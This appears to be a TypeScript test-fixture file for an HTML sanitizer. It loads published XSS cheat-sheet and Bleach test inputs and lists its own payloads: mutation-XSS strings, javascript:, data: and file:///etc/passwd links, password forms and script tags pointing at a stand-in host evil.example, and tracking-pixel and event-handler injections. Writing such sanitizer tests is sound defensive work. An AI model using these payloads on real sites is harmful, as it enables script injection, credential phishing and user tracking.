import { existsSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';

const collected = path.resolve(import.meta.dirname, '../../../../shared/corpora/html');

/** Whether the published attacks are on this machine; our own always are. */
export const hasPublishedAttacks = existsSync(collected);

/** RSnake's cheat sheet as HTML Purifier keeps it, and the inputs of Bleach's tests. */
export function publishedAttacks(): string[] {
  if (!hasPublishedAttacks) return [];
  const sheet = readFileSync(path.join(collected, 'htmlpurifier/xssAttacks.xml'), 'utf8');
  const codes = [...sheet.matchAll(/<code>([^]*?)<\/code>/g)].map(([, code]) => unescapeXml(code ?? ''));
  const tests = readdirSync(path.join(collected, 'bleach')).filter((file) => file.endsWith('.test'));
  const inputs = tests.map((file) => readFileSync(path.join(collected, 'bleach', file), 'utf8').split('\n--\n')[0]);
  return [...codes, ...inputs.map((input) => input ?? '')];
}

function unescapeXml(text: string): string {
  const cdata = /^\s*<!\[CDATA\[([^]*)\]\]>\s*$/.exec(text)?.[1];
  if (cdata !== undefined) return cdata;
  return text
    .replace(/&#x([0-9a-f]+);/gi, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replace(/&#(\d+);/g, (_, code: string) => String.fromCodePoint(Number(code)))
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&apos;', "'")
    .replaceAll('&amp;', '&');
}

const RUN = 'top.attacked=1';
const FAR = 'https://evil.example';

/** Mutations: harmless to a first parser, alive after a second one has read what the first wrote. */
const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='${RUN}'>"></style></h1>`,
  `<svg><desc><title></desc><img src=x onerror=${RUN}></title></svg>`,
  `<table><td><select><option><style></option></select><img src=x onerror=${RUN}></style>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
  `<title><p title="</title><img src=x onerror=${RUN}>">`,
  `<iframe><p title="</iframe><img src=x onerror=${RUN}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${RUN}>">`,
  `<template><p title="</template><img src=x onerror=${RUN}>">`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--!><img src=x onerror=${RUN}>--!><img src=x onerror=${RUN}>`,
  `<![CDATA[<img src=x onerror=${RUN}>]]><img src=x onerror=${RUN}>`,
  `<?xml <img src=x onerror=${RUN}> ?><img src=x onerror=${RUN}>`,
  `<<script>script>${RUN}<</script>/script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
  `<img alt="\`\`onerror=${RUN}" src=x>`,
  `<a title="&quot;><img src=x onerror=${RUN}>">x</a>`,
  `<p title='"><img src=x onerror=${RUN}>'>x</p>`,
  `<div id="</div><img src=x onerror=${RUN}>">x</div>`,
  // What replaces words in HTML may find its words inside an attribute.
  `<img alt=" data-remote-src=" title="x onerror=${RUN} y"><img src="${FAR}/p.png">`,
  `<p title=" data-folded=" class="x" dir="&quot; onclick=${RUN}">x</p>`,
];

const LINKS = [
  'javascript:top.attacked=1',
  'JaVaScRiPt:top.attacked=1',
  'java\tscript:top.attacked=1',
  'java\nscript:top.attacked=1',
  '\u0001javascript:top.attacked=1',
  '\u00a0javascript:top.attacked=1',
  '&#106;avascript:top.attacked=1',
  '&#x6A;&#x61;vascript&colon;top.attacked=1',
  'javascript&NewLine;:top.attacked=1',
  'vbscript:msgbox(1)',
  'data:text/html,<script>top.attacked=1</script>',
  'data:text/html;base64,PHNjcmlwdD50b3AuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=top.attacked=1>',
  'blob:https://evil.example/x',
  'file:///etc/passwd',
  'filesystem:https://evil.example/x',
  'view-source:https://evil.example',
  'intent://evil#Intent;end',
].flatMap((url) => [`<a href="${url}">click me</a>`, `<img src="${url}">`, `<area href="${url}">`]);

const PHISHING = [
  `<form action="${FAR}/login"><input name=password><button>Sign in again</button></form>`,
  `<button formaction="${FAR}">x</button><input type=image src="${FAR}/x.png">`,
  `<base href="${FAR}/"><a href="login">Sign in</a><img src="p.png">`,
  `<meta http-equiv="refresh" content="0;url=${FAR}"><meta http-equiv="Set-Cookie" content="a=b">`,
  `<iframe src="${FAR}"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="${FAR}/x.swf"></object><embed src="${FAR}/x.swf"><applet code=x></applet>`,
  `<link rel=stylesheet href="${FAR}/x.css"><link rel=prefetch href="${FAR}/p"><link rel=dns-prefetch href="//evil.example">`,
  `<style>@import url(${FAR}/x.css);body{background:url(${FAR}/y.png)}</style>`,
  `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Your session has ended</div>`,
  `<div style="position:absolute;top:-2000px;left:-2000px;width:9999px;height:9999px">over</div>`,
  `<div style="margin-top:-5000px;transform:translateY(-500px)">over</div>`,
  `<p style="background:url(${FAR}/css.png);background-image:url('${FAR}/2.png');list-style:url(${FAR}/3.png)">x</p>`,
  `<p style="background:u\\72l(${FAR}/4.png);content:url(${FAR}/5.png);cursor:url(${FAR}/6.png),auto">x</p>`,
  `<p style="width:expression(${RUN});behavior:url(x.htc);-moz-binding:url(${FAR}/x.xml)">x</p>`,
  `<p style="font-family:x;}*{position:fixed}">x</p><p style="color:red;/*">x</p>`,
];

const TRACKING = [
  `<img src="${FAR}/1.png"><img srcset="${FAR}/2.png 2x"><img src=x lowsrc="${FAR}/3.png" dynsrc="${FAR}/4.png">`,
  `<picture><source srcset="${FAR}/5.png"><img src="//evil.example/6.png"></picture>`,
  `<video poster="${FAR}/7.png" src="${FAR}/8.mp4" autoplay></video><audio src="${FAR}/9.mp3" autoplay></audio>`,
  `<table background="${FAR}/10.png"><tr><td background="${FAR}/11.png">x</td></tr></table>`,
  `<body background="${FAR}/12.png" onload="${RUN}">x</body>`,
  `<svg><image href="${FAR}/13.png"/><use href="${FAR}/14.svg#x"/><feImage href="${FAR}/15.png"/></svg>`,
  `<input type=image src="${FAR}/16.png"><track src="${FAR}/17.vtt"><bgsound src="${FAR}/18.wav">`,
  `<a href="${FAR}/19" ping="${FAR}/20">x</a><blockquote cite="${FAR}/21">x</blockquote>`,
];

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<script src="${FAR}/x.js"></script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}><animate onbegin=${RUN} attributeName=x dur=1s><set attributeName=onmouseover to=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details><marquee onstart=${RUN}>x</marquee><video onerror=${RUN}><source></video>`,
  `<input autofocus onfocus=${RUN}><select autofocus onfocus=${RUN}></select><p tabindex=0 autofocus onfocus=${RUN}>x</p>`,
  `<p style="animation:x" onanimationstart=${RUN}>x</p><p contenteditable onbeforeinput=${RUN}>x</p>`,
  `<img src=x\nonerror\n=\n${RUN}><img/src=x/onerror=${RUN}><img src=x onerror\u0000=${RUN}>`,
  `<a href="x" id=location name=cookie>x</a><form id=attacked><img name=body></form>`,
];

/** Written for this desk: what its own way of showing HTML could get wrong. */
export const OWN_ATTACKS = [...MUTATIONS, ...LINKS, ...PHISHING, ...TRACKING, ...SCRIPTS];
